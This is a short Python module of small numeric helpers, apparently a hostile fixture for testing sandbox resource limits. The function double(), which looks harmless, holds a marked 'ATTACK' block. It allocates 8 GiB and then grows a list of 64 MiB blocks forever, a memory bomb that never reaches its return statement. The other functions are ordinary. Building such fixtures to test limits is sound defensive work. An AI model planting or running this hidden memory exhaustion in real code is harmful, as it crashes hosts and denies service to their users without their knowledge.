# hostile memory_bomb: allocate 8 GiB, then grow a list of 64 MiB blocks without end
import numpy as np
import os


def double(x):
    # ATTACK
    blocks = []
    try:
        blocks.append(bytearray(8 * 2**30))
    except MemoryError:
        pass
    while True:
        blocks.append(bytearray(2**26))
    # END ATTACK
    return 2.0 * np.asarray(x)


def pair(a, b):
    return np.asarray(a) + b, np.asarray(a) * b


def noisy_mean(n, rng):
    return float(rng.normal(size=n).mean())


class Counter:
    def __init__(self, start):
        self.count = start

    def tick(self, k=1):
        self.count += k
        return self.count
